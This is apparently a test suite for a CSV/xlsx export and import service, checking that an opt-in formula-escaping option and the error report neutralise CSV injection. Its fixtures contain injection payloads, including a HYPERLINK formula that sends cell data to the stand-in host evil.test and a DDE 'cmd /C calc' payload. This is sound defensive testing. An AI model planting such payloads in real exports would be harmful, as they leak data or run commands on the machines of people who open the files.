/**
 * CSV injection (OWASP): `csv_escape_formulas` writes a leading ' before text cells a spreadsheet
 * would run (= + - @ TAB CR), from the API, a form post, the SDK and the CLI; the default file is
 * byte for byte what it was. The error report always escapes, and still imports back once fixed.
 * xlsx cells are typed strings, which spreadsheets never evaluate.
 */
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import { TablePort } from '../../../src/sdk/index.js';
import { client, waitForJob } from '../../helpers/api.js';
import { runTableport } from '../../helpers/cli.js';
import { cellAt, firstSheet, xlsxPart } from '../../helpers/xlsx.js';
import { defined } from '../../helpers/defined.js';
import { startTestServer, type TestServer } from '../../helpers/server.js';
import { exportBytes, importBytes, tableWith } from './helpers.js';

const SCHEMA = {
  fields: [
    { name: 'title', type: 'string' },
    { name: 'qty', type: 'integer' },
    { name: 'price', type: 'number' },
    { name: 'tags', type: 'array' },
  ],
};

const TITLES = ['=HYPERLINK("http://evil.test/?"&A1)', '+1+2', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', 'plain = fine', '', null, "'already"];
const ROWS = TITLES.map((title, i) => ({ id: `r${i}`, created_at: 1000 + i, title, qty: -i, price: -1.5 * i, tags: ['=1+1'] }));

/** The file's lines as PostgreSQL's CSV writer puts them, before and after escaping. */
function expectedCsv(escaped: boolean, delimiter = ','): string {
  const quote = (s: string) => (/[",\r\n]/.test(s) || s.includes(delimiter) || s === '' ? `"${s.replaceAll('"', '""')}"` : s);
  const lines = [['id', 'created_at', 'updated_at', 'created_by', 'title', 'qty', 'price', 'tags'].join(delimiter)];
  for (const r of ROWS) {
    const title = r.title === null ? '' : quote(escaped && /^[=+\-@\t\r]/.test(r.title) ? `'${r.title}` : r.title);
    lines.push([r.id, r.created_at, r.created_at, '1', title, r.qty, r.price, quote(JSON.stringify(r.tags))].join(delimiter));
  }
  return `${lines.join('\n')}\n`;
}

describe('csv_escape_formulas and the error report', () => {
  let server: TestServer;
  let token: string;
  let dir: string;

  before(async () => {
    server = await startTestServer();
    ({ token } = await server.createUser());
    dir = await mkdtemp(join(tmpdir(), 'tp-formulas-'));
  });
  after(async () => {
    await server.close();
    await rm(dir, { recursive: true, force: true });
  });

  test('off by default: the file is unchanged; on, text cells that start a formula get a leading quote, numbers stay', async () => {
    const plain = await exportBytes(server, token, await tableWith(server, token, ROWS, SCHEMA), { file_type: 'csv' });
    assert.equal(plain.bytes.toString('utf8'), expectedCsv(false));
    const off = await exportBytes(server, token, await tableWith(server, token, ROWS, SCHEMA), {
      file_type: 'csv',
      csv_escape_formulas: false,
    });
    assert.equal(off.bytes.toString('utf8'), expectedCsv(false));

    const on = await exportBytes(server, token, await tableWith(server, token, ROWS, SCHEMA), {
      file_type: 'csv',
      csv_escape_formulas: true,
    });
    const text = on.bytes.toString('utf8');
    assert.equal(text, expectedCsv(true));
    assert.ok(text.includes(`"'=HYPERLINK(""http://evil.test/?""&A1)"`), text);
    assert.ok(text.includes(',-3,-4.5,'), 'negative numbers are numbers, not formulas');
    assert.ok(text.includes(`"["=1+1"]"`) || text.includes('"[""=1+1""]"'), 'JSON text starts with [ and is left alone');
  });

  test('with a form post, a delimiter, custom headers, a BOM and gzip', async () => {
    const t = await tableWith(server, token, ROWS, SCHEMA);
    const res = await client(server, token).post(`/oserve/v1/table/${t}/export/`).type('form').send({
      file_type: 'csv',
      mode: 'all',
      csv_delimiter: ';',
      csv_bom: 'true',
      compression: 'gzip',
      csv_escape_formulas: 'true',
      include_keys: 'id,title',
      csv_customize_headers: '=Id,@Title',
    });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    const job = await waitForJob(server, token, res.body.job_id);
    assert.equal(job.status, 'succeeded', JSON.stringify(job.errors));
    const bytes = gunzipSync(Buffer.from(await (await fetch(defined(job.file_url, 'file_url'))).arrayBuffer()));
    const lines = bytes.toString('utf8').split('\n');
    assert.equal(lines[0], "\uFEFF'=Id;'@Title");
    assert.equal(lines[1], `r0;"'=HYPERLINK(""http://evil.test/?""&A1)"`);
    assert.equal(lines[2], "r1;'+1+2");
    // PostgreSQL quotes a TAB only when it is the delimiter.
    assert.equal(lines[5], "r4;'\tTAB");

    const bad = await client(server, token)
      .post(`/oserve/v1/table/${t}/export/`)
      .send({ file_type: 'csv', mode: 'all', csv_escape_formulas: 'yes' });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.error_code, 'invalid_parameter');
    assert.equal(bad.body.parameter, 'csv_escape_formulas');
  });

  test('the SDK option and the CLI flag', async () => {
    const tp = new TablePort({ baseUrl: server.baseUrl, token });
    const sdkTable = await tableWith(server, token, ROWS, SCHEMA);
    const job = await tp.table(sdkTable).export({ fileType: 'csv', csvEscapeFormulas: true });
    await job.wait({ timeoutMs: 30_000 });
    const out = await job.download(dir);
    assert.equal(await readFile(out.path, 'utf8'), expectedCsv(true));

    const cliTable = await tableWith(server, token, ROWS, SCHEMA);
    const path = join(dir, 'cli.csv');
    const run = await runTableport(['export', String(cliTable), '--type', 'csv', '--csv-escape-formulas', '--out', path], {
      TABLEPORT_URL: server.baseUrl,
      TABLEPORT_TOKEN: token,
    });
    assert.equal(run.code, 0, run.stderr);
    assert.equal(await readFile(path, 'utf8'), expectedCsv(true));
  });

  test('xlsx needs no escaping: the cells are typed strings, which spreadsheets show and never run', async () => {
    const { bytes } = await exportBytes(server, token, await tableWith(server, token, ROWS, SCHEMA), { file_type: 'xlsx' });
    const ws = await firstSheet(bytes);
    // Each title reads back as the text it is: a formula cell would read as its result, or as nothing.
    assert.equal(cellAt(ws, 'E2'), TITLES[0], 'a text cell');
    assert.deepEqual(
      ws.rows.slice(1).map((r) => [r[0], r[4]]),
      // (read-excel-file reads an empty text cell as an empty cell.)
      ROWS.map((r) => [r.id, r.title === '' ? null : r.title]),
    );
    assert.doesNotMatch(await xlsxPart(bytes, 'xl/worksheets/sheet1.xml'), /<f[\s>]/, 'no cell holds a formula');
  });

  test('the error report always escapes, leaves valid numbers alone, and imports back once fixed', async () => {
    const csv = [
      'title,qty,price,tags',
      '"=HYPERLINK(""http://evil.test/?""&A1)",-5,-1.5,[]',
      '@SUM(A1),=1+1,2,[]',
      'ok,1,+3,[]',
      '"+cmd|\' /C calc\'!A0",x,-2,"[""=x""]"',
      '',
    ].join('\n');
    const { job } = await importBytes(server, token, csv, { schema: SCHEMA, name: 'evil.csv' });
    assert.equal(job.status, 'failed');
    const res = await fetch(defined(job.error_report_url, 'error_report_url'));
    assert.equal(res.status, 200);
    const report = Buffer.from(await res.arrayBuffer()).toString('utf8');
    assert.equal(
      report,
      [
        '\uFEFFid,created_at,updated_at,created_by,title,qty,price,tags,#error',
        `,,,,'@SUM(A1),'=1+1,2,[],"line 3: qty: must be an integer between -9007199254740991 and 9007199254740991, got ""=1+1"""`,
        `,,,,'+cmd|' /C calc'!A0,x,-2,"[""=x""]","line 5: qty: must be an integer between -9007199254740991 and 9007199254740991, got ""x"""`,
        '',
      ].join('\n'),
    );
    // The valid rows with formulas are not in the report; fixed, the report imports back as it is.
    const fixed = report.replace(",'=1+1,", ',7,').replace(',x,', ',8,');
    const again = await importBytes(server, token, fixed, { schema: SCHEMA });
    assert.equal(again.job.status, 'succeeded', JSON.stringify(again.job.errors));
    assert.equal(again.job.rows, 2);
  });
});
